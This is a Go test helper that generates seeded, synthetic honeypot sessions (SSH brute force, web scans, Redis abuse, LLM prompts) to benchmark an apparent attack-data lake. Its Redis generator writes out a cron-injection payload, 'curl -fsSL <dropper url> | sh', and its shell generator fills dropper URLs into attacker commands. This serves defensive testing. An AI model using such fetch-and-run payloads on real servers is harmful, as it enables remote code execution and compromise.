// Package laketest makes decoy sessions as they are recorded on the internet, for
// tests and benchmarks of the lake: the same seed, the same sessions.
//
// The mix and the shape follow what public honeypot reports agree on: most
// sessions are password guessing over SSH with a few credentials each, many are
// single connections, web scanners ask for long lists of paths, few sources do
// most of it, and the same droppers are fetched again and again. No text is
// copied from any of them.
package laketest

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"strings"
	"time"

	"bartizan/internal/model"
	"bartizan/internal/observe"
)

// Sessions is an endless recording. Use New.
type Sessions struct {
	r       *rand.Rand
	zipf    *rand.Zipf
	at      time.Time
	between time.Duration
	n       uint64
}

// sources is how many addresses visit; the busiest makes about a seventh of the sessions.
const sources = 60_000

// New begins a recording at a time, with a mean time between two sessions.
func New(seed uint64, at time.Time, between time.Duration) *Sessions {
	r := rand.New(rand.NewPCG(seed, 0x6c616b65))
	return &Sessions{r: r, zipf: rand.NewZipf(r, 1.15, 8, sources-1), at: at.UTC(), between: between}
}

// At is the time the recording has come to.
func (s *Sessions) At() time.Time { return s.at }

// Source is the address of the n-th busiest visitor.
func Source(n uint64) netip.Addr {
	x := (n + 1) * 0x9e3779b97f4a7c15
	if n%16 == 7 {
		var a [16]byte
		copy(a[:], []byte{0x20, 0x01, 0x0d, 0xb8})
		binary.BigEndian.PutUint64(a[4:], x)
		return netip.AddrFrom16(a)
	}
	return netip.AddrFrom4([4]byte{byte(1 + (x>>56)%222), byte(x >> 48), byte(x >> 40), byte(x >> 32)})
}

func (s *Sessions) pick(list []string) string {
	// Popularity falls off, as it does for passwords and paths.
	return list[min(int(s.r.ExpFloat64()*float64(len(list))/4), len(list)-1)]
}

func (s *Sessions) id() model.ULID {
	id := model.ULID{}
	binary.BigEndian.PutUint64(id[:8], uint64(s.at.UnixMilli())<<16)
	s.n++
	binary.BigEndian.PutUint32(id[6:], s.r.Uint32())
	binary.BigEndian.PutUint64(id[8:], s.n*0xbf58476d1ce4e5b9)
	return id
}

// Next appends the observations of one more session.
func (s *Sessions) Next(to []observe.Observation) []observe.Observation {
	s.at = s.at.Add(time.Duration(s.r.ExpFloat64() * float64(s.between)))
	v := visit{s: s, head: observe.Observation{
		Time: s.at, Session: s.id(), Sensor: "edge-" + strconv.Itoa(int(s.n%3)+1),
		Remote: netip.AddrPortFrom(Source(s.zipf.Uint64()), uint16(1024+s.r.IntN(64000))),
	}}
	switch p := s.r.IntN(100); {
	case p < 52:
		return v.ssh(to)
	case p < 78:
		return v.http(to)
	case p < 90:
		return v.contact(to)
	case p < 95:
		return v.redis(to)
	default:
		return v.llm(to)
	}
}

// visit is one session being made.
type visit struct {
	s    *Sessions
	head observe.Observation
}

func (v *visit) decoy(name, service string, port uint16) {
	v.head.Decoy, v.head.Service, v.head.Local = name, service, netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, 113, 7}), port)
}

// say makes one observation, a little later than the one before.
func (v *visit) say(kind observe.Kind) observe.Observation {
	o := v.head
	v.head.Time = v.head.Time.Add(time.Duration(v.s.r.ExpFloat64() * float64(400*time.Millisecond)))
	o.Kind = kind
	return o
}

func (v *visit) end(to []observe.Observation, i observe.Interaction, transcript []byte) []observe.Observation {
	o := v.say(observe.KindInteraction)
	i.Ended, i.Persona = true, "web-7"
	i.Duration = float64(int64(v.s.r.ExpFloat64()*4e6)) / 1e6
	i.BytesOut = 900 + int64(v.s.r.IntN(3000))
	o.Interaction = &i
	if len(transcript) > 0 {
		o.Evidence = []observe.Blob{{What: "transcript", SHA256: v.hash(), Size: len(transcript), Data: transcript}}
	}
	return append(to, o)
}

func (v *visit) hash() string {
	var b [32]byte
	for i := 0; i < 32; i += 8 {
		binary.LittleEndian.PutUint64(b[i:], v.s.r.Uint64())
	}
	return hex.EncodeToString(b[:])
}

// dropper is one of few hundred, so that the same one comes back.
func (v *visit) dropper() (url, sha string) {
	n := int(v.s.r.ExpFloat64() * 60)
	host := Source(uint64(n) * 31)
	sum := [32]byte{}
	binary.BigEndian.PutUint64(sum[:], uint64(n)*0x94d049bb133111eb)
	binary.BigEndian.PutUint64(sum[24:], uint64(n)*0x9e3779b97f4a7c15)
	return fmt.Sprintf("http://%s/%s.%s", netip.AddrPortFrom(host, uint16(80+n%5*1000)), v.s.pick(droppers), []string{"x86_64", "arm7", "mips", "sh"}[n%4]), hex.EncodeToString(sum[:])
}

func (v *visit) ssh(to []observe.Observation) []observe.Observation {
	v.decoy("ssh", "ssh", 22)
	client := v.s.pick(clients)
	var said strings.Builder
	said.WriteString(client + "\r\n")
	in := false
	for range 1 + int(v.s.r.ExpFloat64()*5) {
		o := v.say(observe.KindAuth)
		user, pass := v.s.pick(users), v.s.pick(passwords)
		if v.s.r.IntN(4) == 0 {
			pass += strconv.Itoa(v.s.r.IntN(10_000))
		}
		in = v.s.r.IntN(25) == 0
		o.Auth = &observe.AuthAttempt{Method: "password", User: user, Password: pass, Accepted: in}
		if to = append(to, o); in {
			break
		}
	}
	if in {
		to = v.shell(to, &said)
	}
	return v.end(to, observe.Interaction{BytesIn: 1200 + int64(said.Len()), First: []byte(client), Protocol: "ssh", Client: client,
		Prints: observe.Fingerprints{HASSH: v.print(clients, client)}}, []byte(said.String()))
}

// print is a fingerprint that belongs to one client.
func (v *visit) print(list []string, name string) string {
	for i := range list {
		if list[i] == name {
			return fmt.Sprintf("%032x", uint64(i+1)*0x9e3779b97f4a7c15)
		}
	}
	return ""
}

func (v *visit) shell(to []observe.Observation, said *strings.Builder) []observe.Observation {
	for range 1 + v.s.r.IntN(8) {
		o := v.say(observe.KindCommand)
		line := v.s.pick(commands)
		if strings.Contains(line, "%s") {
			url, sha := v.dropper()
			line = strings.ReplaceAll(line, "%s", url)
			f := v.say(observe.KindFetch)
			f.Fetch = &observe.Fetch{URL: url, Tool: strings.Fields(line)[0]}
			to = append(to, f)
			if v.s.r.IntN(4) == 0 {
				up := v.say(observe.KindFile)
				up.File = &observe.FileEvent{Path: "/tmp/." + v.s.pick(droppers), How: "sftp", SHA256: sha, Size: int64(40_000 + v.s.r.IntN(90_000)), Type: "elf"}
				to = append(to, up)
			}
		}
		o.Command = &observe.Command{Line: line, User: "root"}
		fmt.Fprintf(said, "# %s\r\n", line)
		to = append(to, o)
	}
	if v.s.r.IntN(20) == 0 {
		o := v.say(observe.KindForward)
		o.Forward = &observe.Forward{Kind: "direct-tcpip", Target: v.s.pick(relays)}
		to = append(to, o)
	}
	return to
}

func (v *visit) http(to []observe.Observation) []observe.Observation {
	v.decoy("http", "http", 80)
	agent := v.s.pick(agents)
	ja4 := ""
	if v.s.r.IntN(3) == 0 {
		v.decoy("https", "http", 443)
		ja4 = "t13d1516h2_8daaf6152771_" + v.print(agents, agent)[20:]
	}
	var first []byte
	for range 1 + int(v.s.r.ExpFloat64()*6) {
		o := v.say(observe.KindHTTP)
		target := v.s.pick(paths)
		if v.s.r.IntN(5) == 0 {
			target += "?id=" + strconv.Itoa(v.s.r.IntN(100_000))
		}
		h := &observe.HTTPRequest{Method: "GET", Target: target, Proto: "HTTP/1.1", Host: "203.0.113.7", Status: 404, TLS: ja4 != "",
			Headers: []observe.Field{{Name: "Host", Value: "203.0.113.7"}, {Name: "User-Agent", Value: agent}, {Name: "Accept", Value: "*/*"}, {Name: "Accept-Encoding", Value: "gzip"}, {Name: "Connection", Value: "keep-alive"}}}
		if v.s.r.IntN(12) == 0 {
			h.Method, h.Body, h.Status = "POST", fmt.Appendf(nil, "log=%s&pwd=%s&wp-submit=Log+In", v.s.pick(users), v.s.pick(passwords)), 200
			h.BodyLen = int64(len(h.Body))
		}
		o.HTTP = h
		if first == nil {
			first = fmt.Appendf(nil, "%s %s HTTP/1.1\r\nHost: 203.0.113.7\r\nUser-Agent: %s\r\n", h.Method, target, agent)
		}
		to = append(to, o)
	}
	return v.end(to, observe.Interaction{BytesIn: int64(len(first)) + 90, First: first, Protocol: "http", Client: agent, Prints: observe.Fingerprints{JA4: ja4}}, nil)
}

func (v *visit) contact(to []observe.Observation) []observe.Observation {
	port := []uint16{1433, 3389, 5555, 5900, 9200}[v.s.r.IntN(5)]
	v.decoy("tcp-"+strconv.Itoa(int(port)), "tcp", port)
	return v.end(to, observe.Interaction{BytesIn: int64(v.s.r.IntN(60)), First: []byte("\x03\x00\x00\x13\x0e\xe0\x00\x00"), Protocol: "rdp"}, nil)
}

func (v *visit) redis(to []observe.Observation) []observe.Observation {
	v.decoy("redis", "redis", 6379)
	for range 1 + v.s.r.IntN(6) {
		o := v.say(observe.KindCall)
		url, _ := v.dropper()
		o.Call = &observe.APICall{Operation: v.s.pick(operations), Args: []string{"dir", "/var/spool/cron", "\n*/2 * * * * curl -fsSL " + url + " | sh\n"}}
		to = append(to, o)
	}
	return v.end(to, observe.Interaction{BytesIn: 300, Protocol: "redis"}, nil)
}

func (v *visit) llm(to []observe.Observation) []observe.Observation {
	v.decoy("llm", "llm", 11434)
	for range 1 + v.s.r.IntN(3) {
		o := v.say(observe.KindExchange)
		o.Exchange = &observe.Exchange{API: "ollama", Route: "/api/chat", Model: "llama3.1:8b", System: "You are a helpful assistant.",
			Prompt: v.s.pick(prompts) + " #" + strconv.Itoa(v.s.r.IntN(1_000_000)), Turns: 1 + v.s.r.IntN(4), Answer: "I can help with that. First, tell me more about what you have tried so far."}
		to = append(to, o)
	}
	return v.end(to, observe.Interaction{BytesIn: 700, Protocol: "http"}, nil)
}
